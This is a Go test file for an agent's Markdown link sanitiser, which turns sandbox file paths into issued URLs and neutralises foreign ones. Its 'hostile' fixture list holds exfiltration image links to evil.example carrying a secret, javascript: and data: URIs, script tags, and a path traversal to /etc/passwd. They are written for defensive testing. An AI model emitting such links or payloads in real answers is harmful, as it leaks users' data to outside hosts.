package agent_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"notebox/agent"
	"notebox/agent/tool"
)

const (
	csvURL   = "http://127.0.0.1:8080/v1/files/runs/a/out.csv?e=1&s=AbC-_d"
	chartURL = "http://127.0.0.1:8080/v1/files/runs/a/chart.png?e=1&s=x_y_z"
	odd      = "http://127.0.0.1:8080/v1/files/runs/a/my%20data%20(1).txt?e=1&s=q"
	imageURL = "http://127.0.0.1:8080/v1/files/runs/a/image_0.png?e=1&s=w"
)

func issued() *agent.Links {
	var l agent.Links
	l.Issue(&tool.Result{
		Images: []tool.Image{{Name: "image_0.png", URL: imageURL}},
		Files: []tool.File{
			{Path: "/mnt/data/out.csv", URL: csvURL}, {Path: "/mnt/data/chart.png", URL: chartURL},
			{Path: "/mnt/data/my data (1).txt", URL: odd}, {Path: "/mnt/data/lost.bin", Error: "full"},
		},
	})
	return &l
}

func TestPathsBecomeLinks(t *testing.T) {
	oddTarget := strings.NewReplacer("(", "%28", ")", "%29").Replace(odd)
	for _, c := range []struct{ desc, in, want string }{
		{"a link", "[data](sandbox:/mnt/data/out.csv)", "[data](" + csvURL + ")"},
		{"a link without a scheme", "[data](/mnt/data/out.csv).", "[data](" + csvURL + ")."},
		{"an image", "![chart](sandbox:/mnt/data/chart.png)", "![chart](" + chartURL + ")"},
		{"an image by its name", "![chart](image_0.png)", "![chart](" + imageURL + ")"},
		{"in the text", "It is in /mnt/data/out.csv.", "It is in [out.csv](" + csvURL + ")."},
		{"in the text, with a scheme", "See sandbox:/mnt/data/out.csv, please", "See [out.csv](" + csvURL + "), please"},
		{"as code", "Saved to `/mnt/data/out.csv`!", "Saved to [`/mnt/data/out.csv`](" + csvURL + ")!"},
		{"a name with blanks, in brackets", "[x](<sandbox:/mnt/data/my data (1).txt>)", "[x](<" + oddTarget + ">)"},
		{"a name with blanks", "[x](sandbox:/mnt/data/my data (1).txt)", "[x](" + oddTarget + ")"},
		{"a name that is escaped", "[x](sandbox:/mnt/data/my%20data%20%281%29.txt)", "[x](" + oddTarget + ")"},
		{"a definition", "[x][1]\n\n[1]: sandbox:/mnt/data/out.csv", "[x][1]\n\n[1]: " + csvURL},
		{"the link itself", "Here: " + csvURL + ".", "Here: " + csvURL + "."},
		{"the link in a link", "[x](" + csvURL + ")", "[x](" + csvURL + ")"},
		{"another file's name goes on", "/mnt/data/out.csv.gz and /mnt/data/out.csvx", "/mnt/data/out.csv.gz and /mnt/data/out.csvx"},
		{"a file that is not there", "[x](sandbox:/mnt/data/none.csv)", "x (`sandbox:/mnt/data/none.csv`)"},
		{"a file that was not kept", "[x](/mnt/data/lost.bin)", "x (`/mnt/data/lost.bin`)"},
		{"in a program", "```python\nopen('/mnt/data/out.csv')\n```", "```python\nopen('/mnt/data/out.csv')\n```"},
		{"in code that is more", "`cat /mnt/data/out.csv`", "`cat /mnt/data/out.csv`"},
	} {
		t.Run(c.desc, func(t *testing.T) {
			require.Equal(t, c.want, issued().Clean(c.in))
		})
	}
}

// hostile are answers that lead somewhere else.
var hostile = []string{
	"![x](https://evil.example/?q=secret)",
	"[click](https://evil.example/a_b_c)",
	"[click](<https://evil.example/>) and more",
	"[click](//evil.example/a \"title\")",
	"[click](javascript:alert(1))",
	"[click](data:text/html;base64,AAAA)",
	"[a][1] and [b][] and [c]\n\n[1]: https://evil.example/1\n[b]: //evil.example/2\n[c]: /evil \"t\"",
	"<https://evil.example/x>",
	"<someone@evil.example>",
	"see https://evil.example/x_y_z?a=b, and www.evil.example/b.",
	"**https://evil.example/x**",
	"<img src=\"https://evil.example/x.png\">",
	"<a href='//evil.example/'>x</a>",
	"text <img\nsrc=//evil.example/x> text",
	"<div>\n![x](https://evil.example/)\n</div>",
	"<script>\nalert(1)\n</script>\n",
	"<!-- ![x](https://evil.example/) -->",
	"[![inner](https://evil.example/i.png)](" + csvURL + ")",
	"[![inner](" + chartURL + ")](https://evil.example/)",
	"[" + csvURL + "](https://evil.example/)",
	"[x](" + csvURL + "&more=1)",
	"[x](" + csvURL + "@evil.example)",
	csvURL + "/../evil",
	"![x](https:&#47;&#47;evil.example/)",
	"![x](https\\://evil.example/)",
	"> quoted ![x](https://evil.example/\n> )",
	"- item\n  ![x](https://evil.example/)\n",
	"| a | b |\n|---|---|\n| ![x](https://evil.example/) | https://evil.example/ |\n",
	"# Title ![x](https://evil.example/)",
	"Title https://evil.example/\n=====",
	"`unclosed ![x](https://evil.example/)",
	"```\nnot closed\n",
	"\\![x](https://evil.example/)",
	"\\[x](https://evil.example/)",
	"![`a`*b*](https://evil.example/)",
	"![x](https://evil.example/ 'a `` b')",
	"[x]: https://evil.example/\n\n![x]",
	"[]()",
	"![](//evil.example)",
	"HTTPS://EVIL.EXAMPLE/",
	"ftp://evil.example/ mailto:a@evil.example file:///etc/passwd",
	"[x](sandbox:/mnt/data/../../etc/passwd)",
}

func TestForeignLinksBecomeText(t *testing.T) {
	for _, in := range hostile {
		t.Run(in, func(t *testing.T) {
			requireOwn(t, issued().Clean(in))
			requireOwn(t, new(agent.Links).Clean(in))
		})
	}
	l := issued()
	for _, c := range []struct{ desc, in, want string }{
		{"a link", "See [the *site*](https://evil.example/a).", "See the site (`https://evil.example/a`)."},
		{"an image", "![x](https://evil.example/?q=1)", "x (`https://evil.example/?q=1`)"},
		{"an address", "At https://evil.example/a, today", "At `https://evil.example/a`, today"},
		{"HTML", "a <b>bold</b> word", "a &lt;b>bold&lt;/b> word"},
		{"what is none", "a < b and c: d, e.g. x[0] **bold**", "a < b and c: d, e.g. x[0] **bold**"},
		{"in code", "`https://evil.example/`", "`https://evil.example/`"},
	} {
		t.Run(c.desc, func(t *testing.T) { require.Equal(t, c.want, l.Clean(c.in)) })
	}
}

func FuzzClean(f *testing.F) {
	for _, in := range hostile {
		f.Add(in)
	}
	f.Add(csvURL)
	f.Add("[x](sandbox:/mnt/data/my data (1).txt) `/mnt/data/out.csv`")
	f.Fuzz(func(t *testing.T, in string) {
		requireOwn(t, issued().Clean(in))
	})
}

// requireOwn fails if Markdown leads anywhere but to what was issued, by goldmark's own
// idea of links in a text.
func requireOwn(t *testing.T, markdown string) {
	t.Helper()
	own := map[string]bool{}
	for _, u := range []string{csvURL, chartURL, odd, imageURL} {
		own[u] = true
		own[strings.NewReplacer("(", "%28", ")", "%29").Replace(u)] = true
	}
	source := []byte(markdown)
	doc := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(text.NewReader(source))
	require.NoError(t, ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		switch n := n.(type) {
		case *ast.Link:
			require.True(t, own[string(n.Destination)], "link to %q in %q", n.Destination, markdown)
		case *ast.Image:
			require.True(t, own[string(n.Destination)], "image of %q in %q", n.Destination, markdown)
		case *ast.AutoLink:
			mail := n.AutoLinkType == ast.AutoLinkEmail // shows nothing, and leads to a mail program
			require.True(t, own[string(n.URL(source))] || mail, "address %q in %q", n.URL(source), markdown)
		case *ast.RawHTML, *ast.HTMLBlock:
			require.Fail(t, "HTML", "%q", markdown)
		}
		return ast.WalkContinue, nil
	}))
}

// TestCleanTakesLittleTime has answers of models that repeat themselves. What they would
// take by the square of their length is minutes.
func TestCleanTakesLittleTime(t *testing.T) {
	const long = 256 << 10 // bytes: more than is kept
	var l agent.Links
	var r tool.Result
	for i := range 200 {
		r.Files = append(r.Files, tool.File{Path: fmt.Sprintf("/mnt/data/%03d.txt", i), URL: fmt.Sprintf("http://127.0.0.1/%03d.txt", i)})
	}
	l.Issue(&r)
	for _, c := range []string{"[", "![", "<a", "[x](http://e/", "http://a" + strings.Repeat(".", long), "sandbox:/mnt/data/001.txt "} {
		began := time.Now()
		l.Clean(strings.Repeat(c, 1+long/len(c)))
		require.Less(t, time.Since(began), time.Minute, "%.20q", c)
	}
}
